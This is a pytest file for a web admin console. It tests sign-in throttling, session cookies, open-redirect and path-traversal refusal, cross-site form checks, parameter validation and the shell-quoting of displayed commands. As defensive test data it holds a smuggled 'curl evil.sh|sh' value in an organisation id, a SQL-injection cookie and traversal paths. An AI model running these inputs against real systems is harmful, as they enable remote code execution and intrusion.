"""The console's door and its answers: who comes in, which forms are taken, what nonsense gets, what a page costs."""

from __future__ import annotations

import asyncio
import gzip
import html
import re
import shlex
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any, Final, Never
from urllib.parse import quote

import httpx
import pytest
import sqlalchemy as sa
from sqlalchemy.exc import DBAPIError

from drawdown.schema.database import read, write
from drawdown.schema.errors import AnswerLost, DatabaseBusy, UsageError
from drawdown.schema.units import DAY_MS, MICRO, MINUTE_MS
from drawdown.server.console import console as consoles
from drawdown.server.console import files, read_connection, request_params, session_auth, sign_in
from drawdown.server.console.console import WITHIN_S
from drawdown.server.console.frame import charts, figures
from drawdown.server.console.pages import PAGES
from drawdown.server.console.read_connection import TooSlow, look
from drawdown.server.console.screens.customers import orgs
from drawdown.server.console.session_auth import COOKIE
from drawdown.server.http import limits, threads
from drawdown.server.settings import ServerSettings
from drawdown.worker.access import people as console_users
from drawdown.worker.access import sessions as console_sessions
from tests.cases import cases
from tests.server.console_home import ANN, OURS, PASSWORD, URL, VIC, Home, says, secret
from tests.world import T0, Fleet


@pytest.fixture
def home(home_engine: sa.Engine) -> Home:
    return Home(home_engine, copied=True)


def test_console_when_not_configured_is_not_found(home: Home) -> None:
    async def work(client: httpx.AsyncClient, _: Any) -> list[int]:
        return [(await client.get(page.path)).status_code for page in PAGES]

    assert set(home.ask(work, console=False)) == {404}


def test_console_link_lost_answer_sets_password_once(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    write(home.engine, lambda c: console_users.add(c, "cat", "viewer", secret(9), home.fleet.by))
    form = {"token": secret(9), "password": PASSWORD, "again": PASSWORD}
    with monkeypatch.context() as patch:
        lost = iter([True, False])

        def cut(engine: sa.Engine, work: Callable[[sa.Connection], object], *, rollback: bool) -> object:
            done = write(engine, work, rollback=rollback)
            if next(lost):
                raise AnswerLost("cut")
            return done

        patch.setattr(threads, "write", cut)
        answer = home.post("/console/link", form)
    assert answer.status_code == 303 and answer.headers["location"] == "/console/"
    session = answer.headers["set-cookie"].partition("=")[2].partition(";")[0]
    found = read(home.engine, lambda c: console_sessions.find(c, session, home.fleet.clock.at_ms))
    assert found is not None and found[0].name == "cat"
    assert home.post("/console/link", form).status_code == 404, "to whoever comes after it, the link was used"


SETTING: Final = "DRAWDOWN_CONSOLE_URL"


@cases(
    "url", ["drawdown.internal", "http://drawdown.internal", "https://x/console", "https://", "ftp://x", "https://x:y"]
)
def test_console_url_unsafe_origin_is_refused(url: str) -> None:
    with pytest.raises(UsageError, match="CONSOLE_URL"):
        session_auth.require_url(url, SETTING)


@cases(
    "url",
    [
        "https://user:pw@x", "https://user@x", "https://X", "HTTPS://x", "https://x:443", "https://x:0443", "https://x:",
        "https://x#y", "https://x?", "https://x/", "https://x\n",
    ],
)  # fmt: skip
def test_console_url_that_browsers_send_otherwise_is_refused(url: str) -> None:
    with pytest.raises(UsageError, match=f"^invalid {SETTING}: expected https://x$"):
        session_auth.require_url(url, SETTING)


@cases(
    "url", ["https://ho st", "https://x%20", "https://ho\u00f6", "https://[x]", "https://[::1", "https://[fe80::1%1]"]
)
def test_console_url_with_invalid_host_is_refused(url: str) -> None:
    with pytest.raises(UsageError, match=f"invalid {SETTING}: expected an origin such as"):
        session_auth.require_url(url, SETTING)


@cases("url", [URL, "https://x:8443", "http://127.0.0.1:8080", "http://localhost", "http://[::1]:8080", "https://x:80"])
def test_console_url_that_is_an_origin_is_unchanged(url: str) -> None:
    assert session_auth.require_url(url, SETTING) == url


def test_root_path_redirects_to_console(home: Home) -> None:
    """It was a 404 in JSON for who opened the address that `serve` prints."""
    (answer,) = home.get("/")
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/")


def test_console_sign_in_and_sign_out_affect_own_session_only(home: Home) -> None:
    wrong = home.post("/console/sign-in", {"name": "ann", "password": "no" + PASSWORD, "next": "/console/orgs"})
    assert (wrong.status_code, 'value="ann"' in wrong.text, 'value="/console/orgs"' in wrong.text) == (401, True, True)
    right = home.post("/console/sign-in", {"name": " Ann ", "password": PASSWORD, "next": "/console/orgs?state=halted"})
    assert (right.status_code, right.headers["location"]) == (303, "/console/orgs?state=halted")
    cookie = right.headers["set-cookie"]
    assert cookie.startswith(f"{COOKIE}=") and {"HttpOnly", "Secure", "SameSite=lax", "Path=/"} <= set(
        cookie.split("; ")
    )
    assert "Domain" not in cookie
    session = cookie.partition("=")[2].partition(";")[0]
    assert session not in str(home.fleet.rows("SELECT * FROM console_sessions"))
    out = home.post("/console/sign-out", {}, {**OURS, "cookie": f"{COOKIE}={session}"})
    assert out.status_code == 303 and "Max-Age=0" in out.headers["set-cookie"]
    assert len(home.fleet.rows("SELECT 1 FROM console_sessions WHERE name = 'ann'")) == 1, (
        "the other browser stays signed in"
    )


def test_sign_in_unknown_name_gets_same_answer_as_known_name(home: Home) -> None:
    answers = [home.post("/console/sign-in", {"name": name, "password": "x" * 20}) for name in ("ann", "nobody")]
    first, second = (one.text.replace("nobody", "ann") for one in answers)
    assert first == second and {one.status_code for one in answers} == {401}


def test_sign_in_names_at_blocked_address_get_same_answer_and_work(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    hashes = []
    is_password = console_users.is_password

    def hashed(password: str, stored: str | None) -> bool:
        hashes.append(password)
        return is_password(password, stored)

    def post(name: str, password: str = "x" * 20) -> tuple[int, str]:
        hashes.clear()
        answer = home.post("/console/sign-in", {"name": name, "password": password})
        assert hashes == [password]
        return answer.status_code, answer.text.replace(f'"{name}"', "")

    monkeypatch.setattr(console_sessions, "MOST_ADDRESS_FAILURES", 2)
    monkeypatch.setattr(console_users, "is_password", hashed)
    assert [post(name)[0] for name in ("bob", "cat")] == [401, 401]
    (status, page), *others = (post(name) for name in ("nobody", *["ann"] * (console_sessions.MOST_FAILURES + 1)))
    assert status == 429 and set(others) == {(status, page)}
    assert post("kim", PASSWORD)[0] == 303


def test_sign_in_after_five_failures_refuses_correct_password(home: Home) -> None:
    for _ in range(console_sessions.MOST_FAILURES):
        assert home.post("/console/sign-in", {"name": "ann", "password": ""}).status_code == 401
    assert home.post("/console/sign-in", {"name": "ann", "password": PASSWORD}).status_code == 429
    home.fleet.clock.at_ms += console_sessions.WITHIN_MS
    assert home.post("/console/sign-in", {"name": "ann", "password": PASSWORD}).status_code == 303


@cases(
    "place", [
        "//evil.example", "https://evil.example", "/console/\\evil", "/docs", "/console/\n", "", "/console",
        "/console/../my/sign-out", "/console/./orgs", "/console/..", "/console/orgs/../../my", "/console/..?a=b",
        "/console/..#a", "/console/%2e%2e/my", "/console/%2E./my", "/console/.%2e/my", "/console/%2e%2e%2fmy",
        "/console/..%2fmy", "/console/%5c..%5cmy", "/console/..;/my", "/console/\t../my", None,
    ],
)  # fmt: skip
def test_sign_in_next_outside_console_redirects_to_overview(place: str | None) -> None:
    assert sign_in.inside(place) == "/console/"


@cases(
    "place",
    [
        "/console/",
        "/console/orgs",
        "/console/org?id=..",
        "/console/org?id=a%2Fb&next=../x",
        "/console/a...b",
        "/console/.a",
    ],
)
def test_sign_in_next_inside_console_is_unchanged(place: str) -> None:
    assert sign_in.inside(place) == place


def test_sign_in_form_next_outside_console_redirects_to_overview(home: Home) -> None:
    said = {"name": "ann", "password": PASSWORD, "next": "/console/../my/"}
    answer = home.post("/console/sign-in", said)
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/")


ORIGINS: Final[list[tuple[dict[str, str], bool]]] = [
    ({"sec-fetch-site": "same-origin"}, True),
    ({"sec-fetch-site": "cross-site", "origin": URL}, False),
    ({"sec-fetch-site": "same-site"}, False),
    ({"sec-fetch-site": "none"}, False),
    ({"origin": URL}, True),
    ({"origin": "https://evil.example"}, False),
    ({"origin": "null"}, False),
    ({"referer": URL, "host": "evil.example"}, False),
    ({}, False),
]


def test_console_form_cross_site_post_is_refused(home: Home) -> None:
    for headers, taken in ORIGINS:
        for path in ("/console/sign-out", "/console/link"):
            answer = home.post(path, {"password": "y", "again": "x", "token": secret(9)}, headers)
            assert (answer.status_code != 403) is taken, (headers, answer.text)
    assert home.post("/console/sign-in", {"name": "ann"}, {"sec-fetch-site": "cross-site"}).status_code == 403
    assert home.fleet.rows("SELECT 1 FROM console_failures") == [], "it was not even counted"


FORMS: Final = [
    (b"name=a&name=b", 400),
    (b"=a&=b", 400),
    (b"name=%ff", 400),
    ("&".join(f"f{n}=1" for n in range(session_auth.MOST_FIELDS + 1)).encode(), 400),
    (b"x" * (session_auth.MAX_FORM_BYTES + 1), 413),
    (b"", 401),
]


def test_sign_in_form_invalid_body_is_refused_with_message(home: Home) -> None:
    for body, status in FORMS:
        answer = home.post("/console/sign-in", body)
        assert answer.status_code == status and "<h1>" in answer.text


def test_console_page_during_database_outage_names_page_and_start(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> Never:
        raise DatabaseBusy("the database does not answer")

    def told() -> list[tuple[str, str]]:
        (answer,) = home.get("/console/orgs")
        assert answer.status_code == 503 and "The database does not answer." in answer.text
        return re.findall(r"<h1>(.*?)</h1>|since <time datetime=\"([^\"]+)\"", answer.text)

    began = home.fleet.clock.at_ms
    with monkeypatch.context() as away:
        away.setattr(consoles, "look", fail)
        first = told()
        home.fleet.clock.at_ms += 5 * MINUTE_MS
        assert told() == first == [("Organisations cannot be read now", ""), ("", figures.iso(began))]
    assert home.get("/console/orgs")[0].status_code == 200
    home.fleet.clock.at_ms += MINUTE_MS
    monkeypatch.setattr(consoles, "look", fail)
    assert told()[1] == ("", figures.iso(began + 6 * MINUTE_MS)), "it was well meanwhile"


def test_sign_in_concurrent_password_hashes_are_bounded(home: Home) -> None:
    async def work(client: httpx.AsyncClient, console: Any) -> list[int]:
        console._sign_in._hashes = sign_in.MOST_HASHES
        form = {"name": "ann", "password": PASSWORD}
        return [(await client.post("/console/sign-in", data=form, headers=OURS)).status_code]

    assert home.ask(work) == [503]
    assert sign_in.HASHES_AT_ONCE <= sign_in.MOST_HASHES


def test_console_without_valid_session_redirects_to_sign_in(home: Home) -> None:
    for session in (None, 8):
        pages = [f"{page.path}{page.example}" for page in PAGES]
        for answer in home.get(*pages, "/console/orgs.csv", session=session):
            assert answer.status_code == 303 and answer.headers["location"].startswith(
                "/console/sign-in?next=%2Fconsole"
            )
    (answer,) = home.get("/console/", session=None, cookie=f"{COOKIE}=' OR 1=1 --")
    assert answer.status_code == 303


def test_proxy_sign_in_with_proven_header_uses_local_role(engine: sa.Engine) -> None:
    home = Home(engine, console_proxy_header="x-forwarded-user", console_proxy_secret="between us")
    proof = {"x-drawdown-proxy-secret": "between us"}

    def status(**headers: str) -> int:
        return home.get("/console/", session=None, **headers)[0].status_code

    assert status(**proof, **{"x-forwarded-user": "ann"}) == 200
    assert status(**{"x-forwarded-user": "ann"}) == 303
    assert status(**{"x-drawdown-proxy-secret": "between u", "x-forwarded-user": "ann"}) == 303
    assert status(**proof, **{"x-forwarded-user": "nobody"}) == 303
    assert status(**proof, **{"x-forwarded-user": "ann, bob"}) == 303
    write(engine, lambda c: console_users.end(c, "ann", home.fleet.by))
    assert status(**proof, **{"x-forwarded-user": "ann"}) == 303
    plain = Home.__new__(Home)
    plain.__dict__.update(
        home.__dict__, settings=ServerSettings(console_url=URL, console_proxy_header="x-forwarded-user")
    )
    assert plain.get("/console/", session=None, **{"x-forwarded-user": "ann"})[0].status_code == 303, "no secret is set"


NONSENSE: Final = [
    ("/console/orgs?state=nonsense", 400, "invalid state 'nonsense': expected active, halted"),
    ("/console/orgs?after=%01", 400, "expected an id of 1 to 200"),
    ("/console/orgs?after=%00", 400, "invalid after: expected at most"),
    ("/console/orgs?x=" + "x" * (request_params.MAX_TEXT_CHARS + 1), 400, "invalid x: expected at most"),
    ("/console/pending?after_sample=" + "x" * (request_params.MAX_KEY_CHARS + 1), 400, "invalid after_sample: longer"),
    ("/console/ticks?hour=253402300800000", 400, "invalid hour '253402300800000': expected milliseconds"),
    ("/console/orgs?search=" + "x" * 201, 400, "expected an id of 1 to 200"),
    ("/console/orgs?state=halted&state=active", 400, "repeats a parameter"),
    (
        "/console/orgs?" + "&".join(f"p{n}=1" for n in range(request_params.MOST_PARAMETERS + 1)),
        400,
        "has too many parameters",
    ),
    ("/console/org", 400, "missing id in the address"),
    ("/console/org?id=acmee", 404, "did you mean acme?"),
    ("/console/org?id=../../etc&tab=usage", 404, "unknown organisation"),
    ("/console/org?id=acme&tab=x", 400, "invalid tab 'x': expected usage"),
    ("/console/org?id=acme&days=31", 400, "invalid days '31': expected 30, 7, 90"),
    ("/console/org?id=acme&day=2026-13-01", 400, "invalid day '2026-13-01': expected a date"),
    ("/console/org?id=acme&day=1", 400, "invalid day '1': expected a date"),
    ("/console/org.csv?id=acmee", 404, "did you mean acme?"),
    ("/console/nothing", 404, "this page does not exist"),
]


def test_console_invalid_parameters_are_refused_with_message(home: Home) -> None:
    answers = home.get(*(place for place, _, _ in NONSENSE))
    for (place, status, said), answer in zip(NONSENSE, answers, strict=True):
        assert answer.status_code == status and says(answer.text, said), (place, answer.text[-600:])


def test_each_answer_has_policy_and_only_static_files_are_cached(home: Home) -> None:
    page, form = home.get("/console/", "/console/sign-in")
    for answer in (page, form):
        assert answer.headers.get_list("content-security-policy") == [consoles.POLICY]
        assert answer.headers["cache-control"] == "no-store"
        assert "style=" not in answer.text and "<script>" not in answer.text and "onclick" not in answer.text
    places = re.findall(r'(?:href|src)="(/console/static/[^"]+)"', page.text)
    assert len(places) == 4
    packed_too = home.get(*places, session=None, **{"accept-encoding": "gzip"})
    for answer, packed in zip(home.get(*places, session=None), packed_too, strict=True):
        assert answer.status_code == 200 and "immutable" in answer.headers["cache-control"]
        assert packed.headers["content-encoding"] == "gzip" and packed.content == answer.content
    (other,) = home.get(places[0].replace("/static/", "/static/0"))
    assert other.status_code == 404
    assert len(gzip.compress(home.get(places[1])[0].content)) < 12_000, "our own style is small"


@pytest.mark.both_databases
def test_console_page_query_is_read_only_and_times_out(engine: sa.Engine) -> None:
    postgresql = engine.dialect.name == "postgresql"
    slow = (
        "SELECT pg_sleep(5)"
        if postgresql
        else "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000000000) SELECT MAX(i) FROM n"
    )
    with pytest.raises(TooSlow, match="longer than"):
        look(engine, lambda c: c.execute(sa.text(slow)).all(), 0.2)
    with pytest.raises(Exception, match=r"read-?only|readonly"):
        look(engine, lambda c: c.execute(sa.text("UPDATE orgs SET halt_reason = 'x'")), 1.0)
    assert look(engine, lambda c: c.execute(sa.text("SELECT 1")).scalar(), 1.0) == 1
    Fleet(engine).assign("acme")  # the same connections write again
    assert WITHIN_S < 30 and consoles.AT_ONCE == 4


def test_console_page_late_query_gets_rest_of_page_time(postgres: sa.Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each query had the whole time of its page."""
    now_s = 0.0
    monkeypatch.setattr(read_connection, "time", SimpleNamespace(monotonic=lambda: now_s))

    def work(connection: sa.Connection) -> list[object]:
        nonlocal now_s
        found = []
        for at_s in (0.0, 60.0, 90.0):
            now_s = at_s
            found.append(connection.execute(sa.text("SHOW statement_timeout")).scalar())
        with pytest.raises(DBAPIError, match="DivisionByZero"), connection.begin_nested():
            connection.execute(sa.text("SELECT 1 / 0"))
        now_s = 100.0
        with pytest.raises(TooSlow):
            connection.execute(sa.text("SELECT 1"))
        return found

    assert look(postgres, work, 100.0) == ["100s", "40s", "10s"]


def test_orgs_list_pages_contain_each_org_once(home: Home) -> None:
    names = [f"org-{n:03}" for n in range(2 * orgs.PAGE_ROWS)]
    home.register(names)
    path, seen = "/console/orgs", []
    while path:
        (answer,) = home.get(path)
        seen += re.findall(r"\"Organisation\"><a href=\"/console/org\?id=([^\"]+)\"", answer.text)
        following = re.search(r'rel="next" href="([^"]+)"', answer.text)
        path = following[1].replace("&amp;", "&") if following else ""
    assert seen == ["acme", *names]


def test_org_with_future_first_assignment_is_shown_scheduled(home: Home) -> None:
    home.fleet.assign("later", from_ms=home.fleet.clock.at_ms + DAY_MS)
    page, listed = home.get("/console/org?id=later", "/console/orgs?state=scheduled")
    assert (
        ">scheduled<" in page.text
        and "Billed from" in page.text
        and "No provider bills this organisation yet" not in page.text
    )
    assert re.findall(r"/console/org\?id=([^\"]+)\"", listed.text) == ["later"]


def test_console_files_concurrency_is_bounded_and_export_audited(home: Home) -> None:
    async def work(client: httpx.AsyncClient, console: Any) -> list[int]:
        cookie = {"cookie": f"{COOKIE}={secret(7)}"}
        console._files._under_way = files.MOST_FILES
        full = (await client.get("/console/orgs.csv", headers=cookie)).status_code
        console._files._under_way = 0
        taken = await client.get("/console/orgs.csv?state=active", headers=cookie)
        while console._files._under_way:
            await asyncio.sleep(0.01)
        return [full, taken.status_code, taken.text.count("\n")]

    assert home.ask(work) == [503, 200, 2]
    assert home.fleet.rows("SELECT actor, target FROM operator_actions WHERE action = 'console_export'") == [
        ("console:ann", "/console/orgs.csv")
    ]


def test_console_large_file_is_streamed_in_pieces(home: Home) -> None:
    home.register(f"an-organisation-with-a-rather-long-name-{n:05}" for n in range(3_000))

    async def work(client: httpx.AsyncClient, _: Any) -> list[int]:
        async with client.stream("GET", "/console/orgs.csv", headers={"cookie": f"{COOKIE}={secret(7)}"}) as answer:
            return [len(piece) async for piece in answer.aiter_raw()]

    sizes = home.ask(work)
    assert sum(sizes) > 2 * files.PIECE_BYTES
    assert files.MOST_PIECES * files.PIECE_BYTES < 1_000_000


@cases(
    ("micro", "text"),
    [
        (0, "0.00"), (None, figures.UNKNOWN), (4_000, "<0.01"), (-4_000, f">{figures.MINUS}0.01"), (5_000, "0.01"),
        (-1_234_567_890, f"{figures.MINUS}1,234.57"), (999_995_000, "1,000.00"), (10_000, "0.01"),
    ],
)  # fmt: skip
def test_credits_figure_is_formatted(micro: int | None, text: str) -> None:
    assert figures.credits(micro) == text


def test_time_and_duration_figures_are_formatted() -> None:
    assert figures.time(T0) == "2026-01-01 00:00" and figures.time(None) == figures.UNKNOWN
    assert [figures.lasting(ms) for ms in (0, 61_000, 3 * 3_600_000 + 720_000, 2 * DAY_MS)] == [
        "0 s",
        "1 min",
        "3 h 12 min",
        "2 d",
    ]
    assert (figures.ago(T0, T0 + 60_000), figures.ago(T0 + 60_000, T0)) == ("1 min ago", "in 1 min")


def test_stacked_chart_small_series_are_merged_and_axis_is_rounded() -> None:
    days = [("a", {f"f{n}": n * MICRO for n in range(7)}), ("b", {"f6": 1})]
    found = charts.stacked(days, "<said>", MICRO)
    assert [name for name, _, _ in found.series] == ["f6", "f5", "f4", charts.OTHERS]
    assert found.series[-1][2] == 6 * MICRO and found.axis == ["50", "25", "0"]
    assert "&lt;said&gt;" in found.picture and found.picture.count("<title>") == 7
    assert charts.stacked([], "none", MICRO).axis == ["1", "0.5", "0"]


def test_shown_command_with_hostile_id_is_quoted(home: Home) -> None:
    hostile = "a; curl evil.sh|sh #"
    home.fleet.assign(hostile, from_ms=T0)
    home.fleet.sample(hostile, home.now - 1)
    home.fleet.tick_windows(2)
    home.now = home.fleet.clock.at_ms
    named = f"?id={quote(hostile)}"
    paths = [
        f"/console/org{named}&tab={tab}" for tab in next(page for page in PAGES if page.path == "/console/org").tabs
    ]
    paths += [f"/console/billing{named}", "/console/", "/console/pushes", "/console/pending", "/console/halts"]
    shown = 0
    for answer in home.get(*paths):
        assert answer.status_code == 200
        for text in re.findall(r"<code>(.*?)</code>", answer.text, re.DOTALL):
            command = html.unescape(re.sub(r"<[^>]+>", "", text))
            if "curl" in command:
                shown += 1
                assert hostile in shlex.split(command), command
    assert shown > len(paths) / 2


def test_known_console_session_is_remembered_until_end(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """Requests with a known session wait for no flood of unauthenticated ones."""
    monkeypatch.setattr(limits, "MOST_KNOWN", 1)

    async def work(client: httpx.AsyncClient, console: Any) -> None:
        async def known(number: int, path: str = "") -> bool:
            cookie = f"{COOKIE}={secret(number)}"
            if path:
                await client.get(path, headers={"cookie": cookie})
            scope = {"type": "http", "path": "/console/", "headers": [(b"cookie", cookie.encode())]}
            return bool(console.is_known(scope))

        assert [await known(ANN), await known(ANN, "/console/"), await known(99, "/console/")] == [False, True, False]
        assert await known(VIC, "/console/") and not await known(ANN), "a bounded number is remembered"
        home.fleet.clock.at_ms += limits.KNOWN_MS + 1
        assert not await known(VIC)
        assert await known(VIC, "/console/")
        write(home.engine, lambda c: console_sessions.end(c, secret(VIC), home.now))
        assert not await known(VIC, "/console/")

    home.ask(work)
